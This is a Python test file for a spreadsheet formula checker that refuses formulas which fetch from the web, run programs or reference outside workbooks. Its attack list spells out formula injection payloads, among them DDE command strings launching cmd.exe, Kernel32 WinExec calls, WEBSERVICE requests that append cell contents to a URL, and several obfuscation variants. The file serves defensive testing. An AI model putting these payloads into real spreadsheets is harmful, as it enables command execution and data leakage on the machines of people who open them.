"""Formulas of tables. Only functions on a list may be called, and nothing outside of the document is named."""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from chalicelib.features.evidence.check.office import formulas
from chalicelib.features.evidence.check.office.formulas import FUNCTIONS
from chalicelib.features.evidence.refusal import Refusal
from tests.evidence.hostile.checks import passes, refused
from tests.helpers.fakes.archives import TABLE, office
from tests.helpers.fakes.files import SHEET
from tests.helpers.searches import searching

OFFICE = "application/vnd.openxmlformats-officedocument."
MAIN = f"{OFFICE}spreadsheetml.sheet.main+xml"
LOADS = 'WEBSERVICE("http://example.com/"&A1)'
ATTACKS = {
    "the web": LOADS,
    "the web, in small letters": 'webservice("http://example.com")',
    "the web, newer": f"_xlfn.{LOADS}",
    "the web, twice newer": f"_xlfn._xlfn.{LOADS}",
    "the web, newer in capitals": f"_XLFN.{LOADS}",
    "the web, of the user": f"_xludf.{LOADS}",
    "the web, of a workbook": f"_xlfn._xlws.{LOADS}",
    "the web, as an argument": "_xlfn.MAP(A1:A9,_xleta.WEBSERVICE)",
    "the web, as a newer argument": "_xlfn.MAP(A1:A9,_xlfn._xleta.WEBSERVICE)",
    "the web, as an argument without its prefix": "_xlfn.MAP(A1:A9,_xlfn.WEBSERVICE)",
    "the web, under another name": "_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(A1))",
    "the web, in a function": f"_xlfn.LAMBDA(_xlpm.x,{LOADS})(1)",
    "the web, deep inside": f"SUM(IF(A1>0,(({LOADS})),2))",
    "the web, after a text": f'"""" & {LOADS}',
    "the web, after a quotation mark that is coded": f"_x0022_&{LOADS}&_x0022_",
    "the web, in coded letters": '_x0057_EBSERVICE("http://example.com")',
    "the web, in full width": 'ＷＥＢＳＥＲＶＩＣＥ("http://example.com")',
    "the web, with other brackets": 'WEBSERVICE（"http://example.com"）',
    "the web, with a letter that looks like another": 'WEBSERV\u0406CE("http://example.com")',
    "the web, with a space": 'WEBSERVICE ("http://example.com")',
    "the web, with a line": 'WEBSERVICE\n("http://example.com")',
    "the web, of this workbook": f"[0]!{LOADS}",
    "the web, of a sheet": f"Sheet1!{LOADS}",
    "the web, at once": f"@{LOADS}",
    "a picture of the web": '_xlfn.IMAGE("https://example.com/a.png")',
    "a database": 'SQL.REQUEST("DSN=a",A1,2,"select 1")',
    "a server of data": 'RTD("a",,"b")',
    "a library": 'CALL("Kernel32","WinExec","JCJ","calc",0)',
    "a library that is registered": 'REGISTER.ID("Kernel32","WinExec")',
    "a program of a macro sheet": 'EXEC("calc")',
    "a text as a formula": "EVALUATE(A1)",
    "a cube": 'CUBEVALUE("a","b")',
    "a course": '_xlfn.STOCKHISTORY("a",1)',
    "a script in the cloud": "_xlfn._xlws.PY(0,1)",
    "a function of an add-in": "_xll.RUN(A1)",
    "a function that the workbook defines": "FETCH(A1)",
    "a function of another workbook": "'a.xlam'!SUM(A1)",
    "a function of a program": 'DDE("soffice","a","b")',
    "an unknown function": "SURPRISE(1)",
    "a parameter that is called": "_xlpm.SURPRISE(1)",
    "a program's item": "cmd|' /C calc'!A0",
    "a program's item, quoted": "'cmd'|'/C calc'!A0",
    "a program's item, quoted as a whole": "'cmd|/C calc'!A0",
    "a program's item, with spaces": "cmd | ' /C calc' ! A0",
    "a program's item, without quotation marks": "cmd|calc!a",
    "a program's item, coded": "cmd_x007C_'calc'!A0",
    "a program's item, in capitals and small letters": "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "a program's item in a sum": "SUM(1,cmd|' /C calc'!A0)",
    "a program's item with a sign of full width": "cmd｜' /C calc'!A0",
    "a workbook of a share": "'\\\\host\\share\\[a.xlsx]Sheet1'!A1",
    "a workbook of the web": "'https://example.com/[a.xlsx]Sheet1'!A1",
    "a workbook in a folder": "'C:\\a\\[a.xlsx]Sheet1'!A1",
    "a workbook without quotation marks": "[//host/a.xlsx]Sheet1!A1",
    "a workbook as LibreOffice names it": "'file:///host/a.ods'#$Sheet1.A1",
    "a workbook as LibreOffice names it, without slashes": "'file:a.xls'#Sheet1.A1",
    "a file as a sheet": "'file:a.xls'!A1",
    "a workbook after a scheme": "'http:host[a]Sheet1'!A1",
    "a workbook after a drive": "'C:[a]Sheet1'!A1",
    "a drive inside brackets": "'[C:a.xlsx]Sheet1'!A1",
    "a drive inside brackets, without quotation marks": "[C:a.xlsx]Sheet1!A1",
    "a drive inside brackets, before a quoted sheet": "[C:a.xlsx]'Sheet 1'!A1",
    "a workbook in a text": "INDIRECT(\"'file://host/a.ods'#$Sheet1.A1\")",
    "a workbook of a share in a text": "INDIRECT(\"'\\\\host\\[a.xlsx]Sheet1'!A1\")",
    "a workbook of the web in a text": "INDIRECT(\"'http:host[a]Sheet1'!A1\")",
    "a workbook in joined texts": 'INDIRECT("\'fi"&"le:"&"a.ods\'#$Sheet1.A1")',
    "a workbook in a text of another function": 'INDIRECT(CONCATENATE("\'file:",A1))',
    "a workbook in a text, in a nested call": "INDIRECT(INDIRECT(\"'file:a'#A.A1\"))",
    "a workbook in a text, in a second call": 'INDIRECT("A1")+INDIRECT ("\'file:a\'#A.A1")',
    "a program's item in a text": "INDIRECT(\"cmd|'/c calc'!A0\")",
    "the web, in a function that is chosen": 'IF(1,WEBSERVICE)("http://example.com")',
    "the web, in brackets": "(WEBSERVICE)(A1)",
    "the web, as an argument without any prefix": "_xlfn.MAP(A1:A9,webservice)",
    "the web, under a defined name": "WEBSERVICE",
    "a server of data, as an argument": "_xlfn.MAP(A1:A9,B1:B9,C1:C9,RTD)",
    "a workbook by a function that is chosen": "IF(1,INDIRECT)(\"'file:a'#A.A1\")",
    "a path": "https://host/a!A1",
    "a share": "\\\\host\\a!A1",
    "a text without an end": '"a',
    "a name without an end": "'a",
    "a bracket without an end": "a[b",
}
LINKS = {
    "a computed link": 'HYPERLINK("fi"&"le://host/a")',
    "a link in a cell": "HYPERLINK(A1)",
    "a link under a condition": 'HYPERLINK(IF(TRUE,"file://host/a"))',
    "a newer link": '_xlfn.HYPERLINK("file://host/a")',
    "a link as an argument": "_xlfn.MAP(A1:A9,_xleta.HYPERLINK)",
    "a link with a quotation mark": 'HYPERLINK("""https://example.com""")',
}
HONEST = [
    *(
        "SUM(A1:B2)",
        "=sum($A$1:$B$2,Sheet2!A:A)*1.5E-3",
        'A1&"|"&"cmd|\' /C calc\'!A0"',
        "'A|B'+1",
        "",
        "Fruits",
        "TRUE",
    ),
    *(
        "IF(AND(A1>=1,A1<>\"\"),'表 1'!A1,工作表2!B2)",
        "SUM('一月:十二月'!A1)",
        "INDEX(表1[单价/元],MATCH(A1,表1[[#All],[名称]],0))",
    ),
    *(
        "Table1[[#This Row],[a']b|c]]*2",
        "#REF!",
        "#N/A+#DIV/0!",
        "#NAME?",
        "Sheet1!#REF!",
        "{1,2;3,4}",
        "[0]!Button1_Click",
    ),
    *("_xlfn.XLOOKUP(A1,B:B,C:C)", "_xlfn._xlws.SORT(A1:A9)", "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)", "_xlchart.v1.0"),
    *("_xlfn.LAMBDA(_xlop.x,_xlpm.x)(1)", "_xlfn.BYROW(A1:B2,_xleta.SUM)", "SUM(_xlfn.ANCHORARRAY(A1))", "A1#"),
    *('_xlfn.DISPIMG("ID_0",1)', "NUMBERSTRING(A1,2)", 'HYPERLINK("#\'"&A2&"\'!A1",A2)', "'[Book 1.xlsx]Sheet1'!$A$1"),
    *('HYPERLINK("https://example.com/?q="&A1,"打开")', 'INDIRECT("\'"&A1&"\'!B2")', "'Sheet 1'!$A:$A,'Sheet 1'!$1:$1"),
    *(
        "A1%",
        'INDIRECT("\'"&SUBSTITUTE(A1,"/","_")&"\'!B2")&"file://host/a|b!c"',
        'INDIRECT(VLOOKUP(A1&"|"&B1,\'表 1\'!A:B,2,0))&"|!"',
        '"INDIRECT("&"file:"',
        "SUM(RTD:RTD,PY:$PY)",
        "Image!A1+Image[单价]",
        "-A1^2",
        "SUM((A1:B2 B1:C3,D4))",
        'CONCATENATE(A1,\n\t"a")',
        "'It''s'!A1",
        '"_x0041_"',
        "[Book1]Sheet1!$A$1",
    ),
]


def text_of(element: str, formula: str) -> str:
    return f"<{element} xmlns='{TABLE}'>{escape(formula)}</{element}>"


ELEMENTS = [
    *("f", "formula", "formula1", "formula2", "oldFormula", "definedName", "calculatedColumnFormula"),
    *("totalsRowFormula", "FmlaMacro", "FmlaLink", "FmlaRange", "FmlaPict"),
]
PLACES = {
    **{element: lambda formula, element=element: text_of(element, formula) for element in ELEMENTS},
    "a rule of an extension": lambda formula: f"<z:formula1>{text_of('f', formula)}</z:formula1>",
    "a computed field of a pivot table": lambda formula: f"<cacheField formula={quoteattr(formula)}/>",
    "a threshold": lambda formula: f"<cfvo type='formula' val={quoteattr(formula)}/>",
    "the text of a shape": lambda formula: f"<z:sp textlink={quoteattr(formula)}/>",
    "the macro of a shape": lambda formula: f"<z:sp macro={quoteattr(formula)}/>",
}
PARTS = [
    f"{OFFICE}spreadsheetml.worksheet+xml",
    f"{OFFICE}spreadsheetml.table+xml",
    f"{OFFICE}spreadsheetml.pivotCacheDefinition+xml",
    f"{OFFICE}drawingml.chart+xml",
    f"{OFFICE}vmlDrawing",
    "application/xml",
]


def checked(formula: str) -> str | None:
    """The reason of the refusal."""
    try:
        formulas.check(formula)
    except Refusal as refusal:
        return refusal.reason
    return None


@pytest.mark.parametrize("what", ATTACKS)
def test_a_formula_that_loads_or_runs_something_is_refused(what: str) -> None:
    assert checked(ATTACKS[what]) == "formula"


@pytest.mark.parametrize("what", LINKS)
def test_a_link_must_begin_with_its_address(what: str) -> None:
    assert checked(LINKS[what]) == "link"


@pytest.mark.parametrize("formula", HONEST)
def test_formulas_that_programs_write_pass(formula: str) -> None:
    assert checked(formula) is None


@pytest.mark.parametrize("place", PLACES)
def test_every_place_of_a_formula_is_read(place: str) -> None:
    assert refused(office(main=MAIN, body=PLACES[place](LOADS)), SHEET) == "formula"
    assert passes(office(main=MAIN, body=PLACES[place]("SUM(A1:A9)")), SHEET)


@pytest.mark.parametrize("kind", PARTS)
def test_every_part_of_a_workbook_is_read(kind: str) -> None:
    parts = {"xl/a.xml": (kind, text_of("f", "cmd|'/C calc'!A0").encode())}

    assert refused(office(parts, main=MAIN), SHEET) == "formula"


def test_a_text_after_an_inner_element_is_read() -> None:
    body = f"<formula1 xmlns='{TABLE}'><f>1</f>{escape(LOADS)}</formula1>"

    assert refused(office(main=MAIN, body=body), SHEET) == "formula"


names = st.from_regex(r"[A-Za-z_][A-Za-z0-9_.]{0,20}", fullmatch=True)
prefixes = st.sampled_from(["", "_xlfn.", "_xlfn._xlws.", "_xludf.", "@", "_xleta.", "_XLFN."])


@given(names, prefixes)
@searching(400)
def test_any_other_function_is_refused(name: str, prefix: str) -> None:
    assume(name.upper() not in FUNCTIONS and not name.upper().startswith(("HYPERLINK", "_XL")))

    assert checked(f"SUM(1,{prefix}{name}(A1))") == "formula"


@given(names)
@searching(200)
def test_any_other_function_as_an_argument_is_refused(name: str) -> None:
    assume(name.upper() not in FUNCTIONS and not name.upper().startswith(("HYPERLINK", "_XL")))

    assert checked(f"_xlfn.MAP(A1:A9,_xleta.{name})") == "formula"


@given(st.text("abcABC01'\"!()[]|$:,_. ", max_size=40))
@searching(400)
def test_a_formula_with_a_bar_outside_of_a_text_is_refused(formula: str) -> None:
    """With another reading of what is a text: the signs outside of each pair of quotation marks."""
    outside = "".join(formula.split('"')[::2])
    assume(formula.count('"') % 2 == 0 and "'" not in outside and "[" not in outside)

    assert ("|" not in outside) or checked(formula) == "formula"
